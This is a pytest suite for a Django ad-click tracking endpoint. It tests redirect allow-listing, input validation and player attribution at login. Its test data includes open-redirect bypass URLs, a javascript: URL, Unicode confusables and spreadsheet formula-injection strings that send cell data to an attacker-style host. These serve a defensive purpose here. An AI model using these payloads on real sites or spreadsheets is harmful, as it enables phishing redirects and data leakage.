import hashlib
import hmac
import json

import pytest
from django.test import override_settings

from accounts.models import User
from telemetry.models import Click, PlayerAttribution
from telemetry.tests.helpers import NOTHING_WRITTEN, written_rows

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.usefixtures("_allowed_hosts"),
]


@pytest.fixture
def _allowed_hosts(settings):
    settings.TRACK_REDIRECT_ALLOWED_HOSTS = ["play.example.com", "Apps.Example.org:8443"]
    settings.TRACK_IP_SALT = "test-salt"


def test_track_without_redirect_records_the_click(api_client):
    response = api_client.get(
        "/track",
        {
            "pid": "facebook_ads",
            "c": "summer_sale",
            "af_adset": "adset_1",
            "af_ad": "ad_9",
            "clickid": "fb.123",
            "deep_link_value": "level/42",
            "af_sub1": "s1",
            "af_sub2": "s2",
            "af_sub3": "s3",
            "af_sub4": "s4",
            "af_sub5": "s5",
            "unknown": "ignored",
        },
        HTTP_USER_AGENT="GameClient/1.0 (Android 14)",
        REMOTE_ADDR="203.0.113.7",
    )

    assert response.status_code == 200
    click = Click.objects.get()
    assert response.json() == {"clickId": str(click.click_id)}
    assert (
        click.media_source,
        click.campaign,
        click.adset,
        click.ad,
        click.network_click_id,
        click.deep_link_value,
        [click.sub1, click.sub2, click.sub3, click.sub4, click.sub5],
        click.user_agent,
        click.redirect_url,
    ) == (
        "facebook_ads",
        "summer_sale",
        "adset_1",
        "ad_9",
        "fb.123",
        "level/42",
        ["s1", "s2", "s3", "s4", "s5"],
        "GameClient/1.0 (Android 14)",
        "",
    )


def test_track_stores_only_a_salted_hash_of_the_ip(api_client):
    api_client.get("/track", {"pid": "x"}, REMOTE_ADDR="203.0.113.7")

    click = Click.objects.get()
    expected = hmac.new(b"test-salt", b"203.0.113.7", hashlib.sha256).hexdigest()
    assert click.ip_hash == expected
    assert expected != hashlib.sha256(b"203.0.113.7").hexdigest()
    stored = [str(value) for value in Click.objects.values_list().get()]
    assert not any("203.0.113.7" in value for value in stored)


def test_track_redirects_to_an_allowed_host_unchanged(api_client):
    target = "https://play.example.com/store/app?id=com.game&ref=a%20b#top"

    response = api_client.get("/track", {"pid": "google", "redirect": target})

    assert response.status_code == 302
    assert response["Location"] == target
    assert Click.objects.get().redirect_url == target


@pytest.mark.parametrize(
    "target",
    [
        "HTTPS://PLAY.EXAMPLE.COM/x",  # hosts compare case-insensitively
        "http://play.example.com:8080/x",  # ports are ignored
        "https://apps.example.org/",  # the allow-list's own port and case are ignored too
    ],
)
def test_track_redirect_host_rules(api_client, target):
    response = api_client.get("/track", {"pid": "google", "redirect": target})

    assert response.status_code == 302
    assert response["Location"] == target


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example.net/",
        "https://play.example.com.evil.net/",
        "https://sub.play.example.com/",
        "https://user:pass@play.example.com/",
        "https://play.example.com@evil.net/",
        "https://evil.net\\@play.example.com/",
        "javascript://play.example.com/%0aalert(1)",
        "ftp://play.example.com/",
        "//play.example.com/path",
        "/relative/path",
        "play.example.com",
        "https:///play.example.com",
        "https://play.example.com:99999/",
        "https://play.example.com /x",
    ],
)
def test_track_refused_redirect_is_400_and_records_nothing(api_client, target):
    response = api_client.get("/track", {"pid": "google", "redirect": target})

    assert response.status_code == 400
    assert response.json()["code"] == "validation_error"
    assert [e["field"] for e in response.json()["errors"]] == ["redirect"]
    assert written_rows() == NOTHING_WRITTEN


def test_track_empty_redirect_counts_as_absent(api_client):
    response = api_client.get("/track", {"pid": "google", "redirect": ""})

    assert response.status_code == 200
    assert response.json() == {"clickId": str(Click.objects.get().click_id)}


@override_settings(TRACK_REDIRECT_ALLOWED_HOSTS=[])
def test_track_with_an_empty_allow_list_refuses_every_redirect(api_client):
    response = api_client.get("/track", {"pid": "g", "redirect": "https://play.example.com/"})

    assert response.status_code == 400
    assert written_rows() == NOTHING_WRITTEN


@pytest.mark.parametrize("query", [{}, {"pid": ""}, {"c": "campaign"}])
def test_track_without_pid_is_400_and_records_nothing(api_client, query):
    response = api_client.get("/track", query)

    assert response.status_code == 400
    assert [e["field"] for e in response.json()["errors"]] == ["pid"]
    assert written_rows() == NOTHING_WRITTEN


@pytest.mark.parametrize(
    ("name", "length"),
    [("pid", 257), ("c", 257), ("af_sub5", 257), ("deep_link_value", 2049)],
)
def test_track_parameter_too_long_is_400(api_client, name, length):
    response = api_client.get("/track", {"pid": "p", name: "p" * length})

    assert response.status_code == 400
    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [(name, "max_length")]
    assert written_rows() == NOTHING_WRITTEN


def test_track_parameters_of_the_maximum_length_are_stored(api_client):
    query = dict.fromkeys(("pid", "c", "af_adset", "af_ad", "clickid", "af_sub1"), "p" * 256)
    query["deep_link_value"] = "d" * 2048
    redirect = "https://play.example.com/" + "r" * (2048 - 25)

    response = api_client.get("/track", {**query, "redirect": redirect})

    assert response.status_code == 302
    assert Click.objects.values_list(
        "media_source", "campaign", "adset", "ad", "network_click_id", "sub1", "deep_link_value"
    ).get() == ("p" * 256,) * 6 + ("d" * 2048,)
    assert len(Click.objects.get().redirect_url) == 2048


def test_track_nul_in_a_parameter_is_400(api_client):
    response = api_client.get("/track?pid=a%00b")

    assert response.status_code == 400
    assert written_rows() == NOTHING_WRITTEN


def test_track_is_throttled_per_ip(api_client, monkeypatch):
    from rest_framework.throttling import SimpleRateThrottle

    monkeypatch.setitem(SimpleRateThrottle.THROTTLE_RATES, "track", "2/min")

    statuses = [
        api_client.get("/track", {"pid": "x"}, REMOTE_ADDR="198.51.100.1").status_code
        for _ in range(3)
    ]
    other_ip = api_client.get("/track", {"pid": "x"}, REMOTE_ADDR="198.51.100.2")

    assert statuses == [200, 200, 429]
    assert other_ip.status_code == 200
    assert Click.objects.count() == 3


def test_track_ignores_an_authorization_header(api_client):
    api_client.credentials(HTTP_AUTHORIZATION="Bearer garbage")

    assert api_client.get("/track", {"pid": "x"}).status_code == 200


# --- attribution at the first /login ------------------------------------------------------------


def _login(client, user_id, click_id=None):
    body = {"userId": user_id}
    if click_id is not None:
        body["clickId"] = click_id
    response = client.post("/login", json.dumps(body), content_type="application/json")
    assert response.status_code == 200, response.content
    return response


def _click(client, **query):
    return client.get("/track", {"pid": "tiktok", "c": "launch", **query}).json()["clickId"]


def test_first_login_with_click_id_attributes_the_player(api_client):
    click_id = _click(api_client)

    _login(api_client, "newcomer", click_id)

    attribution = PlayerAttribution.objects.get()
    assert attribution.player == User.objects.get(username="newcomer")
    assert (attribution.media_source, attribution.campaign) == ("tiktok", "launch")
    assert attribution.click == Click.objects.get(click_id=click_id)


def test_click_id_is_matched_case_insensitively(api_client):
    click_id = _click(api_client)

    _login(api_client, "newcomer", click_id.upper())

    assert PlayerAttribution.objects.get().media_source == "tiktok"


@pytest.mark.parametrize("click_id", ["c41eb168-0918-4de8-b792-8f38b8eccb48", "not-a-uuid"])
def test_login_with_unknown_click_id_succeeds_without_attribution(api_client, click_id):
    response = _login(api_client, "newcomer", click_id)

    assert response.json()["userId"] == "newcomer"
    assert PlayerAttribution.objects.count() == 0


def test_attribution_is_never_overwritten_by_a_later_login(api_client):
    first_click = _click(api_client)
    second_click = _click(api_client, pid="unity_ads", c="retarget")
    _login(api_client, "newcomer", first_click)

    _login(api_client, "newcomer", second_click)

    attribution = PlayerAttribution.objects.get()
    assert (attribution.media_source, attribution.campaign) == ("tiktok", "launch")


def test_existing_player_logging_in_with_a_click_id_is_not_attributed(api_client):
    _login(api_client, "veteran")

    _login(api_client, "veteran", _click(api_client))

    assert PlayerAttribution.objects.count() == 0


def test_attribute_from_click_keeps_the_first_attribution(api_client):
    from telemetry.services import player_attribute_from_click

    player = User.objects.create(username="direct")
    first = player_attribute_from_click(player=player, click_id=_click(api_client))

    second = player_attribute_from_click(
        player=player, click_id=_click(api_client, pid="other", c="x")
    )

    assert first == second
    assert PlayerAttribution.objects.get().media_source == "tiktok"


# --- Hostile redirect URLs: 400, never a 500 ---------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "redirect=http://%5B::1",  # unclosed IPv6 bracket: urlsplit raises
        "redirect=http://%5Bnotip%5D/",  # brackets around a non-address: urlsplit raises
        "redirect=https://play.example.com%EF%BC%83@evil.com",  # fullwidth # (NFKC): raises
        "redirect=https://play.example.com%EF%BC%8Fevil.com/",  # fullwidth /
        "redirect=https://play%EF%BC%8Eexample%EF%BC%8Ecom/",  # fullwidth dots
        "redirect=https://play.example.com%E3%80%82/",  # ideographic full stop
        "redirect=https://pl%C3%A4y.example.com/",  # non-ASCII host
        "redirect=https://play.example.com/%C3%A9",  # non-ASCII anywhere: send it percent-encoded
        "redirect=https://play.example.com%5C@evil.com/",  # backslash
        "redirect=https:%5C%5Cplay.example.com/",
        "redirect=https://evil.com%5C.play.example.com/",
        "redirect=https://%5B::1%5D:80/",  # an address not in the allow-list
        "redirect=https://%5B::1%5D:x/",  # a malformed port after an IPv6 host
        "redirect=https://:443/",  # an empty host
        "redirect=https://@play.example.com/",  # empty userinfo
        "redirect=https://play.example.com%09/",  # tab, stripped by browsers
        "redirect=https://play.example.com./",  # a trailing dot is another host name
        "redirect=https://play.example.com%00.evil.com/",
        "redirect=https://play.example.com%20@evil.com/",
        "redirect=https://play%252Eexample.com/",  # percent-encoded in the host
    ],
)
def test_track_hostile_redirect_is_400_and_records_nothing(api_client, query):
    response = api_client.get(f"/track?pid=x&{query}")

    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == "validation_error"
    assert [e["field"] for e in body["errors"]] == ["redirect"]
    assert written_rows() == NOTHING_WRITTEN


@override_settings(TRACK_REDIRECT_ALLOWED_HOSTS=["[::1]:8000", "play.example.com"])
@pytest.mark.parametrize(
    "target", ["http://[::1]/x", "http://[::1]:9000/x", "https://play.example.com:/x"]
)
def test_track_redirects_to_an_allowed_ipv6_host_and_an_empty_port(api_client, target):
    response = api_client.get("/track", {"pid": "google", "redirect": target})

    assert response.status_code == 302
    assert response["Location"] == target


# --- Text that reaches report files and spreadsheets --------------------------------------------


@pytest.mark.parametrize("name", ["pid", "c", "af_adset", "af_ad"])
@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
def test_track_report_keys_starting_with_a_formula_prefix_are_400(api_client, name, prefix):
    value = f'{prefix}HYPERLINK("https://evil.example/?"&A1,"open")'
    response = api_client.get("/track", {"pid": "p", name: value})

    assert response.status_code == 400
    assert response.json()["code"] == "validation_error"
    assert response.json()["errors"] == [
        {"field": name, "code": "formula_prefix", "message": "Must not start with =, +, - or @."}
    ]
    assert written_rows() == NOTHING_WRITTEN


def test_track_formula_characters_inside_a_value_and_in_other_parameters_are_kept(api_client):
    query = {
        "pid": "net=work",
        "c": "sale +50% @home",
        "clickid": "-123",
        "af_sub1": "=not_a_report_key",
        "deep_link_value": "@level/42",
    }

    response = api_client.get("/track", query)

    assert response.status_code == 200
    assert Click.objects.values_list(
        "media_source", "campaign", "network_click_id", "sub1", "deep_link_value"
    ).get() == ("net=work", "sale +50% @home", "-123", "=not_a_report_key", "@level/42")


@pytest.mark.parametrize("name", ["pid", "c", "af_ad", "clickid", "deep_link_value", "af_sub3"])
@pytest.mark.parametrize(
    "text",
    [
        "a\tb",
        "a\nb",
        "a\rb",
        "\tleading_tab",
        "a\x7fb",
        "a\x85b",  # NEL
        "a\u200bb",  # zero-width space (format)
        "a\u202eb",  # right-to-left override
        "a\u2028b",  # line separator
        "a\ufeffb",  # byte order mark
    ],
)
def test_track_text_that_is_not_printable_is_400(api_client, name, text):
    response = api_client.get("/track", {"pid": "p", name: text})

    assert response.status_code == 400
    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [(name, "invalid_text")]
    assert written_rows() == NOTHING_WRITTEN


def test_track_printable_unicode_and_spaces_are_stored(api_client):
    response = api_client.get("/track", {"pid": "réseau social", "c": "été 🎮 夏"})

    assert response.status_code == 200
    assert Click.objects.values_list("media_source", "campaign").get() == (
        "réseau social",
        "été 🎮 夏",
    )


def test_the_attribution_receiver_is_connected_when_the_app_loads(api_client):
    from accounts.services import player_created
    from telemetry.receivers import player_created_attribute

    click_id = _click(api_client)

    response = _login(api_client, "newcomer", click_id)

    assert response.status_code == 200
    attribution = PlayerAttribution.objects.get()
    assert (attribution.player.username, str(attribution.click.click_id)) == ("newcomer", click_id)
    assert (attribution.media_source, attribution.campaign) == ("tiktok", "launch")
    # connected by TelemetryConfig.ready() under its dispatch_uid: disconnect finds it
    try:
        assert player_created.disconnect(dispatch_uid="telemetry.attribution") is True
    finally:
        player_created.connect(player_created_attribute, dispatch_uid="telemetry.attribution")
